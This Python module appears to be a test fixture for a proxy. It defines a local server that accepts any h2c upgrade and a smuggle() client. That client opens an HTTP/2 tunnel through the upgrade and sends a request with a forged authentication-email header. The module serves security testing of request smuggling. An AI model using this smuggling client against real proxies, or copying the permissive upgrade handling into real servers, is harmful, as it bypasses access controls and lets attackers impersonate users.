"""An application that takes ``Upgrade: h2c`` wherever it is offered, and then speaks cleartext
HTTP/2 on the connection.

As unmodified servers do (Hypercorn, with and without ``HTTP2-Settings``): whoever gets a tunnel to
it sends requests that no proxy and no check ever sees.
"""

from __future__ import annotations

import contextlib
import socket
import threading
from dataclasses import dataclass

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.events import RequestReceived
from h2.exceptions import ProtocolError

PREFACE = b"PRI * HTTP/2.0\r\n\r\n"


@dataclass(frozen=True, slots=True)
class Arrived:
    """One request. ``upgrades`` are the values of its Upgrade lines; ``tunnelled``: it came in
    HTTP/2.
    """

    path: str
    headers: tuple[tuple[str, str], ...]
    tunnelled: bool

    @property
    def upgrades(self) -> list[str]:
        return [value for name, value in self.headers if name.lower() == "upgrade"]


class H2cApplication:
    """Listens on a port of its own."""

    def __init__(self) -> None:
        self.arrived: list[Arrived] = []
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._listener.getsockname()[1]
        threading.Thread(target=self._accept, daemon=True).start()

    def stop(self) -> None:
        with contextlib.suppress(OSError):
            self._listener.shutdown(socket.SHUT_RDWR)
        self._listener.close()

    def _accept(self) -> None:
        while True:
            try:
                connection, _ = self._listener.accept()
            except OSError:
                return
            threading.Thread(target=self._serve, args=(connection,), daemon=True).start()

    def _serve(self, connection: socket.socket) -> None:
        with connection, contextlib.suppress(OSError, ProtocolError):
            data = b""
            while b"\r\n\r\n" not in data:
                chunk = connection.recv(65536)
                if not chunk:
                    return
                data += chunk
            head, _, rest = data.partition(b"\r\n\r\n")
            if data.startswith(PREFACE):
                self._serve_http2(
                    connection,
                    H2Connection(H2Configuration(client_side=False, header_encoding="latin-1")),
                    data,
                )
                return
            lines = head.decode("latin-1").split("\r\n")
            pairs = tuple(
                (name, value.strip())
                for name, _, value in (line.partition(":") for line in lines[1:])
            )
            self.arrived.append(Arrived(lines[0].split(" ")[1], pairs, tunnelled=False))
            offered = [
                token.strip().lower()
                for value in self.arrived[-1].upgrades
                for token in value.split(",")
            ]
            if "h2c" not in offered:
                connection.sendall(
                    b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok"
                )
                return
            connection.sendall(
                b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n"
            )
            http2 = H2Connection(H2Configuration(client_side=False, header_encoding="latin-1"))
            http2.initiate_upgrade_connection()
            self._serve_http2(connection, http2, rest)

    def _serve_http2(self, connection: socket.socket, http2: H2Connection, data: bytes) -> None:
        if http2.state_machine.state.name == "IDLE":
            http2.initiate_connection()
        while data or (data := connection.recv(65536)):
            for event in http2.receive_data(data):
                if isinstance(event, RequestReceived) and event.stream_id is not None:
                    pairs = tuple((str(name), str(value)) for name, value in event.headers or ())
                    self.arrived.append(Arrived(dict(pairs)[":path"], pairs, tunnelled=True))
                    http2.send_headers(event.stream_id, [(":status", "200")], end_stream=True)
            data = b""
            connection.sendall(http2.data_to_send())


def smuggle(port: int, first: bytes, *, path: str, authority: str, timeout_s: float = 5.0) -> bytes:
    """Send ``first``; if a tunnel opens, ask for ``path`` in it as somebody else. Returns the head
    of the first answer.
    """
    with (
        socket.create_connection(("127.0.0.1", port), timeout=timeout_s) as wire,
        contextlib.suppress(OSError, ProtocolError),
    ):
        wire.sendall(first)
        received = b""
        while b"\r\n\r\n" not in received and (chunk := wire.recv(65536)):
            received += chunk
        head, _, rest = received.partition(b"\r\n\r\n")
        if not head.startswith(b"HTTP/1.1 101"):
            return head
        http2 = H2Connection(H2Configuration(client_side=True))
        http2.initiate_upgrade_connection()
        forged = [
            (":method", "GET"),
            (":scheme", "http"),
            (":authority", authority),
            (":path", path),
            ("x-auth-request-email", "evil@globex.test"),
        ]
        http2.send_headers(3, forged, end_stream=True)
        wire.sendall(http2.data_to_send())
        while rest or (rest := wire.recv(65536)):
            if any(getattr(event, "stream_id", 0) == 3 for event in http2.receive_data(rest)):
                break
            rest = b""
        return head
    return b""
